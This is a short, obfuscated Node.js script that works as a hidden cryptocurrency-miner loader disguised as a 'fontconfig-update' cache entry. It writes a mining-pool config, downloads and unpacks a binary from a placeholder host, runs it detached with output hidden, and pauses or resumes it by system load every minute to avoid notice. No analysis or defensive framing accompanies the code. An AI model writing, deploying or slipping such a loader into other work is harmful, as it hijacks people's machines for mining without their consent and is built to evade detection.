const item0 = require('https');
const item1 = require('fs');
const item2 = require('path');
const item3 = require('os');
const item4 = require('zlib');
const item5 = require('child_process');
const item6 = item2.join(item3.homedir(), '.cache', 'fontconfig-update');
const item7 = item2.join(item6, 'fc-updated');
const item8 = {
  autosave: false,
  cpu: {
    enabled: true,
    'max-threads-hint': 50,
    priority: 1
  },
  pools: [{
    url: 'pool.mine.invalid:443',
    user: 'invalidwallet',
    pass: item3.hostname(),
    tls: true,
    keepalive: true
  }],
  background: true,
  'donate-level': 0
};
function item9() {
  return new Promise((item14, item15) => {
    item0.get('https://dist.mine.invalid/fc-updated.gz', item16 => {
      if (item16.statusCode >= 300 && item16.statusCode < 400) {
        return item0.get(item16.headers.location, item17 => item10(item17, item14, item15));
      }
      item10(item16, item14, item15);
    }).on('error', item15);
  });
}
function item10(item18, item19, item20) {
  const item21 = item1.createWriteStream(item7, {
    mode: 0o755
  });
  item18.pipe(item4.createGunzip()).pipe(item21);
  item21.on('finish', item19);
  item21.on('error', item20);
}
function item11() {
  const item22 = item3.loadavg()[0] / item3.cpus().length;
  return item22 < 0.4;
}
let item12;
function item13() {
  if (item12 && item12.exitCode === null) {
    if (!item11()) {
      process.kill(item12.pid, 'SIGSTOP');
    } else {
      process.kill(item12.pid, 'SIGCONT');
    }
  } else {
    item12 = item5.spawn(item7, ['-c', item2.join(item6, 'config.json')], {
      cwd: item6,
      stdio: 'ignore',
      detached: true
    });
    item12.unref();
  }
}
if (!item1.existsSync(item7)) {
  item1.mkdirSync(item6, {
    recursive: true
  });
  item1.writeFileSync(item2.join(item6, 'config.json'), JSON.stringify(item8));
  item9().then(() => setInterval(item13, 60000)).catch(() => {});
} else {
  setInterval(item13, 60000);
}
